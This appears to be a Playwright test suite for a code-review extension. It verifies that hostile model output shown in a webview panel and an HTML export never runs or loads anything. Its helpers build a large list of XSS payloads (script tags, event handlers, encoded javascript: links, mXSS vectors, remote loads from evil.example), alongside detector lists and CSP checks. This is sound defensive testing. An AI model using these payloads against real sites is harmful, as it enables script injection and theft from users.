// Model output is untrusted. Script tags, event handlers, javascript: links (any case, entity
// encoded), SVG, iframes, objects, meta refresh, base href, CSS url() and remote images, put in
// every field the results panel and the HTML export show, must never run, never load anything,
// and (where the field is text) still read as the text the model wrote.
//   - the webview: the real bundle under the real CSP, and again with the CSP bypassed, so the
//     renderer (safe markdown + DOMPurify + text nodes) is shown to hold on its own;
//   - the export: jobToHtml() loaded in Chromium, with and without its CSP; and its CSP itself.
// Every payload sets window.__pwned and calls alert(); every request off the resource origin is
// recorded and aborted by a route before it leaves.
import * as assert from 'node:assert/strict';
import type { BrowserContext, Page } from 'playwright-core';
import { HTML_REPORT_CSP, jobToHtml } from '../../src/core/jobReport';
import { jobRecordSchema, type JobRecord } from '../../src/core/job';
import type { PanelJobDetail } from '../../src/protocol/panelMessages';
import { closeBrowser, launchBrowser, openPanel, type WebviewHarness } from '../support/webviewPage';

const EVIL = 'https://evil.example';

/** JavaScript that marks the page as compromised, naming the payload that got through. */
const pwn = (name: string) => `window.__pwned='${name}';alert('${name}')`;
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** A markdown document of payloads; `where` names the field, so a failure says which one. */
function markdownPayload(where: string): string {
  const p = (what: string) => pwn(`${where}:${what}`);
  return [
    `Before ${where}.`,
    `<script>${p('script')}</script>`,
    `<SCRIPT SRC=${EVIL}/${where}/x.js></SCRIPT>`,
    `<img src=x onerror="${p('img-onerror')}">`,
    `<img src=//evil.example/${where}/protocol-relative.png>`,
    `<img src="${EVIL}/${where}/absolute.png" onload="${p('img-onload')}">`,
    `<svg onload="${p('svg-onload')}"><circle r="1"/></svg>`,
    `<svg><script>${p('svg-script')}</script></svg>`,
    `<svg><image href="${EVIL}/${where}/svg-image.png"/><a xlink:href="javascript:${p('svg-a')}"><text>svg link</text></a></svg>`,
    `<iframe src="${EVIL}/${where}/frame" srcdoc="<script>parent.__pwned='${where}:srcdoc'</script>"></iframe>`,
    `<object data="${EVIL}/${where}/object.swf"></object><embed src="${EVIL}/${where}/embed.swf">`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}/${where}/refresh">`,
    `<base href="${EVIL}/${where}/">`,
    `<link rel="stylesheet" href="${EVIL}/${where}/style.css">`,
    `<style>@import url(${EVIL}/${where}/import.css); body { background: url(${EVIL}/${where}/bg.png) }</style>`,
    `<div style="background-image: url('${EVIL}/${where}/inline-style.png')">styled div</div>`,
    `<p style="behavior: url(${EVIL}/${where}/x.htc); width: expression(alert(1))">old-ie css</p>`,
    `<a href="javascript:${p('a-href')}">raw javascript link</a>`,
    `<a href="&#106;avascript:${p('a-entity')}">raw entity link</a>`,
    `<a href="#" onclick="${p('onclick')}">raw onclick</a>`,
    `<details open ontoggle="${p('ontoggle')}"><summary>details</summary></details>`,
    `<body onload="${p('body-onload')}">`,
    `<video><source onerror="${p('source-onerror')}"></video><audio src=x onerror="${p('audio')}"></audio>`,
    `<input autofocus onfocus="${p('onfocus')}">`,
    `<form action="${EVIL}/${where}/form"><button formaction="javascript:${p('formaction')}">send</button></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${p('mxss-math')}">`,
    `<noscript><p title="</noscript><img src=x onerror=${p('mxss-noscript')}>"></noscript>`,
    `[md javascript link](javascript:${p('md-js')})`,
    `[md mixed case](JaVaScRiPt:${p('md-case')})`,
    `[md entity](&#106;avascript:${p('md-entity')})`,
    `[md hex entities](&#x6A;&#x61;&#x76;&#x61;script:${p('md-hex')})`,
    `[md entity tab](java&#9;script:${p('md-tab')})`,
    `[md angle brackets](<javascript:${p('md-angle')}>)`,
    `<javascript:${p('md-autolink')}>`,
    `[md data html](data:text/html;base64,${b64(`<script>parent.__pwned='${where}:data-html'</script>`)})`,
    `[md vbscript](vbscript:msgbox(1))`,
    `[md reference][evil-${where}]`,
    `[evil-${where}]: javascript:${p('md-ref')}`,
    `[md title](https://ok.example/ "t\\" onmouseover=\\"${p('md-title')}")`,
    `![md remote image](${EVIL}/${where}/markdown.png)`,
    `![md protocol-relative image](//evil.example/${where}/markdown2.png)`,
    `![md reference image][pixel-${where}]`,
    `[pixel-${where}]: ${EVIL}/${where}/reference.png`,
    `![md svg data image](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwned='${where}:svg-data'"/>`)})`,
    `Inline code: \`<img src=x onerror="${p('code')}">\``,
    '```html',
    `<script>${p('fenced')}</script>`,
    '```',
    `After ${where}.`,
  ].join('\n\n');
}

/** One-line payload for fields shown as plain text (titles, file names, notes). */
function textPayload(where: string): string {
  const p = (what: string) => pwn(`${where}:${what}`);
  return `${where} <script>${p('script')}</script><img src=x onerror="${p('img')}"><svg onload="${p('svg')}"> <iframe src=${EVIL}/${where}> <a href="javascript:${p('a')}">a</a> [x](JaVaScRiPt:${p('md')}) ![i](${EVIL}/${where}.png) <img src=//evil.example/${where}>`;
}

/** A file path that also tries to break out of the Markdown export's code span and list. */
const FILE_PATH = `src/evil\`name${'<img src=x onerror="' + pwn('file') + '">'}\n\n<script>${pwn('file-script')}</script>.ts`;

function panelJob(status: PanelJobDetail['status']): PanelJobDetail {
  return {
    id: 'job-x',
    title: textPayload('title'),
    status,
    kind: 'review',
    model: textPayload('model'),
    tier: 'reasoning',
    createdAt: 1,
    costUsd: 0.01,
    target: { file: FILE_PATH, startLine: 1, endLine: 3 },
    routeReasons: [textPayload('reason')],
    routeNote: textPayload('route-note'),
    canEscalate: true,
    cached: false,
    stale: true,
    durationMs: 1000,
    usage: { inputTokens: 10, outputTokens: 20, reasoningTokens: 5, estimated: false },
    summary: markdownPayload('summary'),
    findings: [
      {
        id: 'f1',
        title: textPayload('finding-title'),
        severity: 'high',
        confidence: 0.9,
        startLine: 1,
        endLine: 2,
        explanation: markdownPayload('explanation'),
        suggestedFix: markdownPayload('fix'),
      },
    ],
    answer: markdownPayload('answer'),
    reasoning: markdownPayload('reasoning'),
    reasoningSummary: textPayload('reasoning-summary'),
    error: textPayload('error'),
    warnings: [textPayload('warning')],
  };
}

interface DomReport {
  pwned: unknown;
  problems: string[];
}

/** Looks through `root` for anything that could run or load: elements, handlers, URLs, CSS. */
function inspectDom(page: Page, rootSelector: string): Promise<DomReport> {
  return page.evaluate((sel) => {
    const root = document.querySelector(sel);
    const problems: string[] = [];
    if (!root) return { pwned: (window as { __pwned?: unknown }).__pwned, problems: [`no ${sel}`] };
    const URL_ATTRIBUTES = new Set(['src', 'srcset', 'srcdoc', 'data', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'ping', 'cite', 'longdesc', 'codebase', 'manifest', 'lowsrc', 'dynsrc', 'usemap', 'archive', 'profile', 'icon']);
    const FORBIDDEN = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'svg', 'math', 'meta', 'base', 'link', 'style', 'form', 'input', 'textarea', 'select', 'video', 'audio', 'source', 'noscript', 'template', 'portal']);
    for (const el of [root, ...root.querySelectorAll('*')]) {
      const tag = el.localName;
      if (FORBIDDEN.has(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`<${tag}> element`);
      for (const a of el.attributes) {
        const v = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
        // Text in other attributes (aria-label, title, class) is inert whatever it says.
        if (a.name.startsWith('on')) problems.push(`<${tag} ${a.name}>`);
        if (URL_ATTRIBUTES.has(a.name) && !(tag === 'img' && a.name === 'src' && /^data:image\/(png|gif|jpe?g|webp);/.test(v))) problems.push(`<${tag} ${a.name}="${a.value}">`);
        if (a.name === 'href' && !(tag === 'a' && /^(https?:\/\/|#)/.test(v))) problems.push(`<${tag} href="${a.value}">`);
        if (a.name === 'style' && /url\(|expression|@import|behavior/.test(v)) problems.push(`<${tag} style="${a.value}">`);
      }
    }
    // Nothing may have been added to <head>, and no <base> or refresh anywhere in the document.
    for (const el of document.querySelectorAll('base, meta[http-equiv]:not([http-equiv="Content-Security-Policy"]), iframe, object, embed'))
      problems.push(`document has <${el.localName}>`);
    return { pwned: (window as { __pwned?: unknown }).__pwned, problems };
  }, rootSelector);
}

/** Gives handlers, image errors, meta refreshes and timers time to fire. */
async function settle(page: Page): Promise<void> {
  await page.evaluate(() => new Promise<void>((r) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(r, 0)))));
  await page.waitForTimeout(700);
}

for (const mode of ['under its CSP', 'with the CSP bypassed (renderer alone)'] as const) {
  describe(`results panel webview against hostile model output, ${mode} (Chromium)`, function () {
    let panel: WebviewHarness;
    let navigations: string[];
    const bypass = mode !== 'under its CSP';

    beforeEach(async () => {
      panel = await openPanel(undefined, { context: { bypassCSP: bypass } });
      navigations = [];
      panel.page.on('framenavigated', (f) => navigations.push(f.url()));
    });
    afterEach(async () => {
      await panel.close();
    });
    after(closeBrowser);

    async function assertNothingHappened(): Promise<void> {
      const report = await inspectDom(panel.page, 'main.layout');
      assert.equal(report.pwned, undefined, `a payload ran: ${String(report.pwned)}`);
      assert.deepEqual(panel.dialogs, [], 'no dialog opened');
      assert.deepEqual(report.problems, [], 'nothing that could run or load is in the DOM');
      assert.deepEqual(panel.blockedRequests, [], 'no request to another origin was even attempted');
      assert.deepEqual(panel.foreignRequests, []);
      assert.deepEqual(navigations, [], 'the panel did not navigate (meta refresh, links)');
      assert.equal(panel.page.url(), `${panel.origin}/`);
      if (!bypass) assert.deepEqual(await panel.cspViolations(), [], 'the renderer never even tried something the CSP had to block');
      assert.deepEqual(panel.pageErrors, []);
    }

    it('shows payloads in every field of a job, streamed and finished, as inert text', async () => {
      await panel.send({ type: 'init', keepReasoningExpanded: true });
      await panel.send({
        type: 'jobs',
        jobs: [
          { id: 'job-x', title: textPayload('list-title'), status: 'running', kind: 'review', model: textPayload('list-model'), tier: 'reasoning', createdAt: 2 },
          { id: 'job-y', title: textPayload('list-title-2'), status: 'failed', kind: 'debug', createdAt: 1 },
        ],
      });
      // Running: the reasoning and the answer stream in as deltas.
      await panel.send({ type: 'jobDetail', job: panelJob('running') });
      await panel.send({ type: 'jobDelta', jobId: 'job-x', reasoning: `\n${markdownPayload('reasoning-delta')}` });
      await panel.send({ type: 'jobDelta', jobId: 'job-x', answer: markdownPayload('answer-delta') });
      await panel.page.waitForFunction(() => document.querySelector('.answer')?.textContent?.includes('After answer-delta.'));
      await settle(panel.page);
      assert.equal(await panel.page.locator('.reasoning-text').textContent(), `${markdownPayload('reasoning')}\n${markdownPayload('reasoning-delta')}`);
      assert.equal(await panel.page.locator('.answer').textContent(), markdownPayload('answer') + markdownPayload('answer-delta'));
      await assertNothingHappened();

      // Finished: the answer is rendered as markdown.
      await panel.send({ type: 'jobDetail', job: panelJob('succeeded') });
      await settle(panel.page);
      await assertNothingHappened();

      // Plain-text fields read exactly as the model wrote them.
      const text = (sel: string) => panel.page.locator(sel).first().textContent();
      assert.equal(await text('.job-detail header h2'), textPayload('title'));
      assert.equal(await text('.job-detail .target'), `${FILE_PATH}:1-3`);
      assert.equal(await text('.summary'), markdownPayload('summary'));
      assert.equal(await text('.finding strong'), textPayload('finding-title'));
      // Explanations are markdown now (code names in backticks render as code): inert, and whole.
      assert.match((await text('.finding .explanation')) ?? '', /^Before explanation\.[\s\S]*After explanation\.\s*$/);
      assert.equal(await text('.reasons li'), textPayload('reason'));
      assert.equal(await text('.note'), textPayload('route-note'));
      // Warnings are markdown now: the raw HTML stays text, the unsafe link and remote image go inert.
      assert.match((await text('.warning')) ?? '', /^warning <script>[\s\S]* x \[image: i\] <img src=\/\/evil\.example\/warning>\s*$/);
      assert.equal(await text('.error'), textPayload('error'));
      assert.equal(await text('.reasoning-text'), markdownPayload('reasoning'));
      assert.equal(await text('details.reasoning summary .muted'), ` — ${textPayload('reasoning-summary')}`);
      assert.deepEqual(await panel.page.locator('.job-title').allTextContents(), [textPayload('list-title'), textPayload('list-title-2')]);

      // The rendered answer shows raw HTML as text, keeps link texts, and drops unsafe targets.
      const answer = (await text('.answer')) ?? '';
      for (const shown of [
        'Before answer.',
        `<script>${pwn('answer:script')}</script>`,
        `<iframe src="${EVIL}/answer/frame"`,
        `<meta http-equiv="refresh" content="0;url=${EVIL}/answer/refresh">`,
        `<base href="${EVIL}/answer/">`,
        `<div style="background-image: url('${EVIL}/answer/inline-style.png')">`,
        'md javascript link',
        'md mixed case',
        'md entity',
        '[image: md remote image]',
        'After answer.',
      ]) {
        assert.ok(answer.includes(shown), `the answer shows ${JSON.stringify(shown)} as text`);
      }
      const hrefs = await panel.page.locator('.answer a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
      assert.deepEqual(hrefs, ['https://ok.example/'], 'only the http(s) link survives as a link');
      assert.equal(await panel.page.locator('.answer img').count(), 0, 'no image, remote or otherwise');
    });

    it('treats finding titles and file names as text in attributes too (aria-label, title)', async () => {
      await panel.send({ type: 'jobDetail', job: panelJob('succeeded') });
      await settle(panel.page);
      const label = await panel.page.locator('.finding').first().getAttribute('aria-label');
      assert.equal(label, `high finding: ${textPayload('finding-title')}`);
      await assertNothingHappened();
    });

    it('survives clicking every link and button the hostile job produced', async () => {
      await panel.send({ type: 'jobDetail', job: panelJob('succeeded') });
      await settle(panel.page);
      // Links other than in-page ones would navigate the webview; the renderer keeps only
      // http(s) ones, which VS Code opens outside. Here: click everything except those.
      const clickable = panel.page.locator('main.layout a:not([href^="http"]), main.layout button, main.layout summary, main.layout [role="option"]');
      const count = await clickable.count();
      for (let i = 0; i < count; i++) await clickable.nth(i).click({ force: true, noWaitAfter: true, timeout: 2000 }).catch(() => undefined);
      await settle(panel.page);
      await assertNothingHappened();
      // What the webview posted is only well-formed protocol messages.
      // Actions travel as requests (request/response); the action inside is what counts.
      const types = new Set((await panel.posted()).map((m) => (m.type === 'request' ? m.action.type : m.type)));
      for (const t of types) assert.ok(['ready', 'revealRange', 'previewFix', 'applyFix', 'dismissFinding', 'rerunWithExtendedThinking', 'feedback', 'copy', 'export', 'showCostReport', 'selectJob'].includes(t), t);
    });
  });
}

describe('the XSS detectors themselves (controls)', function () {
  after(closeBrowser);

  it('catch a payload injected past the renderer when the CSP is bypassed', async () => {
    const panel = await openPanel(undefined, { context: { bypassCSP: true } });
    try {
      await panel.page.evaluate((html) => document.querySelector('main.layout')?.insertAdjacentHTML('beforeend', html), `<img src=x onerror="${pwn('control')}"><img src="${EVIL}/control.png">`);
      await settle(panel.page);
      const report = await inspectDom(panel.page, 'main.layout');
      assert.equal(report.pwned, 'control');
      assert.deepEqual(panel.dialogs, ['alert: control']);
      assert.ok(report.problems.some((p) => p.includes('onerror')));
      assert.deepEqual(panel.blockedRequests, [`${EVIL}/control.png`]);
    } finally {
      await panel.close();
    }
  });

  it('show the panel CSP blocking the same injection as a second line of defence', async () => {
    const panel = await openPanel();
    try {
      await panel.page.evaluate((html) => document.querySelector('main.layout')?.insertAdjacentHTML('beforeend', html), `<img src=x onerror="${pwn('control')}"><img src="${EVIL}/control.png">`);
      await settle(panel.page);
      assert.equal((await inspectDom(panel.page, 'main.layout')).pwned, undefined);
      assert.deepEqual(panel.blockedRequests, [], 'the CSP stopped the image before any request');
      const violations = await panel.cspViolations();
      assert.ok(violations.some((v) => v.startsWith('script-src-attr')), violations.join(', '));
      assert.ok(violations.some((v) => v.startsWith('img-src') && v.includes('evil.example')), violations.join(', '));
    } finally {
      await panel.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------
// HTML export

function hostileJobRecord(): JobRecord {
  return jobRecordSchema.parse({
    id: 'job-export',
    request: {
      kind: 'debug',
      target: {
        type: 'diagnostics',
        filePath: FILE_PATH,
        // The fence's info string in the export comes from the language id.
        languageId: `ts"><img src=x onerror="${pwn('language-id')}"><x y="`,
        startLine: 1,
        endLine: 3,
        code: markdownPayload('code'),
        contextBefore: '',
        contextAfter: '',
        diagnostics: [{ message: textPayload('diagnostic'), severity: 'error', startLine: 1, endLine: 1, source: textPayload('source') }],
      },
      instruction: textPayload('instruction'),
      options: {},
    },
    route: {
      tier: 'reasoning',
      provider: 'openai-compatible',
      model: textPayload('model'),
      reasoning: true,
      effort: 'high',
      maxThinkingTokens: 8192,
      maxAnswerTokens: 4096,
      baseUrl: `${EVIL}/v1`,
      complexity: { tier: 'complex', score: 9 },
      reasons: [markdownPayload('reason')],
      note: markdownPayload('note'),
      expectedWait: { lowSeconds: 10, highSeconds: 60, reason: textPayload('wait') },
    },
    cacheKey: 'k',
    fileHash: 'h',
    status: 'failed',
    createdAt: 1,
    finishedAt: 2,
    fromCache: false,
    reasoning: `${markdownPayload('reasoning')}\n\`\`\`\`\`\`\n</code></pre><script>${pwn('fence-escape')}</script>`,
    answer: markdownPayload('raw-answer'),
    result: {
      summary: markdownPayload('summary'),
      findings: [
        { title: textPayload('finding-title'), severity: 'critical', confidence: 0.8, startLine: 1, endLine: 2, explanation: markdownPayload('explanation'), suggestedFix: `${markdownPayload('fix')}\n\`\`\`\`\n<script>${pwn('fix-escape')}</script>` },
        { title: `<img src=x onerror="${pwn('finding2')}">`, severity: 'info', confidence: 0.2, startLine: 3, endLine: 3, explanation: textPayload('explanation2') },
      ],
      answer: markdownPayload('answer'),
    },
    usage: { inputTokens: 1, cachedInputTokens: 0, outputTokens: 2, reasoningTokens: 1, estimated: true },
    costUsd: null,
    error: { kind: 'internal', message: markdownPayload('error') },
    warnings: [markdownPayload('warning'), textPayload('warning2')],
    retries: 0,
    dismissedFindings: [],
  });
}

const REPORT_URL = 'http://report.test/deep-review-report.html';

interface LoadedReport {
  page: Page;
  context: BrowserContext;
  requests: string[];
  dialogs: string[];
  navigations: string[];
  pageErrors: string[];
  violations(): Promise<string[]>;
  pwned(): Promise<unknown>;
}

/** Opens `html` as the page at REPORT_URL; every other request is recorded and aborted. */
async function loadReport(html: string, bypassCSP: boolean): Promise<LoadedReport> {
  const browser = await launchBrowser();
  const context = await browser.newContext({ bypassCSP, javaScriptEnabled: true });
  const requests: string[] = [];
  let served = false;
  await context.route('**/*', (route) => {
    if (!served && route.request().url() === REPORT_URL && route.request().isNavigationRequest()) {
      served = true;
      return route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html });
    }
    requests.push(route.request().url());
    return route.abort('blockedbyclient');
  });
  const page = await context.newPage();
  const dialogs: string[] = [];
  const navigations: string[] = [];
  const pageErrors: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss().catch(() => undefined);
  });
  page.on('pageerror', (e) => pageErrors.push(e.message));
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await page.goto(REPORT_URL);
  page.on('framenavigated', (f) => navigations.push(f.url()));
  await settle(page);
  return {
    page,
    context,
    requests,
    dialogs,
    navigations,
    pageErrors,
    violations: () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations),
    pwned: () => page.evaluate(() => (window as { __pwned?: unknown }).__pwned),
  };
}

/** Parses a CSP into directive → sources. */
function parseCsp(csp: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const part of csp.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) out.set(name.toLowerCase(), sources);
  }
  return out;
}

describe('HTML export against hostile model output (Chromium)', function () {
  const job = hostileJobRecord();
  const html = jobToHtml(job);
  after(closeBrowser);

  it('carries a CSP that allows no script, no remote load and no base/form redirection', () => {
    const metas = [...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/gi)];
    assert.equal(metas.length, 1);
    const csp = metas[0]?.[1] ?? '';
    assert.equal(csp, HTML_REPORT_CSP);
    const d = parseCsp(csp);
    assert.deepEqual(d.get('default-src'), ["'none'"]);
    // Scripts fall back to default-src 'none' unless a script directive loosens them.
    for (const name of ['script-src', 'script-src-elem', 'script-src-attr', 'worker-src', 'child-src', 'frame-src', 'object-src', 'connect-src', 'font-src', 'media-src', 'manifest-src']) {
      const sources = d.get(name);
      assert.ok(sources === undefined || (sources.length === 1 && sources[0] === "'none'"), `${name} ${sources?.join(' ')}`);
    }
    assert.deepEqual(d.get('img-src'), ['data:']);
    assert.deepEqual(d.get('base-uri'), ["'none'"]);
    assert.deepEqual(d.get('form-action'), ["'none'"]);
    assert.doesNotMatch(csp, /unsafe-eval|strict-dynamic|nonce-|sha(256|384|512)-|https?:|\*/);
    // The CSP comes before anything that could load or run: first in <head> after the charset.
    const head = /<head>([\s\S]*?)<\/head>/.exec(html)?.[1] ?? '';
    assert.match(head.trim(), /^<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy"/);
  });

  it('the CSP really stops scripts and loads in Chromium (canaries injected after it)', async () => {
    const canaries = `<script>window.__pwned='inline-canary'</script><script src="${EVIL}/canary.js"></script><img src="${EVIL}/canary.png"><img src=x onerror="window.__pwned='handler-canary'"><style>body{background:url(${EVIL}/canary-bg.png)}</style>`;
    const withCanaries = html.replace('</head>', `${canaries}</head>`);
    assert.notEqual(withCanaries, html);
    const r = await loadReport(withCanaries, false);
    try {
      assert.equal(await r.pwned(), undefined);
      assert.deepEqual(r.requests, [], 'the CSP blocked every load before it became a request');
      const v = await r.violations();
      for (const directive of ['script-src-elem', 'script-src-attr', 'img-src']) assert.ok(v.some((x) => x.startsWith(directive)), `${directive} violation in ${v.join(', ')}`);
    } finally {
      await r.context.close();
    }
  });

  for (const bypassCSP of [false, true]) {
    it(`runs nothing and loads nothing ${bypassCSP ? 'with its CSP bypassed (renderer alone)' : 'under its CSP'}`, async () => {
      const r = await loadReport(html, bypassCSP);
      try {
        assert.equal(await r.pwned(), undefined);
        assert.deepEqual(r.dialogs, []);
        assert.deepEqual(r.requests, [], 'no request left the report');
        assert.deepEqual(r.navigations, [], 'no meta refresh or other navigation');
        assert.equal(r.page.url(), REPORT_URL);
        assert.deepEqual(r.pageErrors, []);
        if (!bypassCSP) assert.deepEqual(await r.violations(), [], 'the renderer never even tried something the CSP had to block');
        const report = await inspectDom(r.page, 'body');
        assert.deepEqual(report.problems, []);
        // Only the report's own <head> elements exist: the charset, CSP and viewport metas, title, style.
        assert.deepEqual(await r.page.evaluate(() => [...document.head.children].map((e) => e.localName)), ['meta', 'meta', 'meta', 'title', 'style']);
        assert.equal(await r.page.evaluate(() => document.scripts.length), 0);

        // The payloads read as text.
        const text = await r.page.evaluate(() => document.body.innerText);
        assert.match(await r.page.title(), /^Debug .* — Deep Review$/s);
        for (const shown of [
          `<script>${pwn('answer:script')}</script>`,
          `<script>${pwn('summary:script')}</script>`,
          `<iframe src="${EVIL}/explanation/frame"`,
          `<meta http-equiv="refresh" content="0;url=${EVIL}/answer/refresh">`,
          `<base href="${EVIL}/summary/">`,
          `<script>${pwn('reasoning:script')}</script>`,
          `<script>${pwn('fix:script')}</script>`,
          `</code></pre><script>${pwn('fence-escape')}</script>`,
          `<script>${pwn('fix-escape')}</script>`,
          '[image: md remote image]',
          'md javascript link',
          'After answer.',
          'After error.',
          'After warning.',
          'After note.',
        ]) {
          assert.ok(text.includes(shown), `the report shows ${JSON.stringify(shown)} as text`);
        }
        const hrefs = await r.page.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
        assert.ok(hrefs.length > 0 && hrefs.every((h) => h === 'https://ok.example/'), JSON.stringify(hrefs));
        assert.equal(await r.page.locator('img').count(), 0);
      } finally {
        await r.context.close();
      }
    });
  }
});
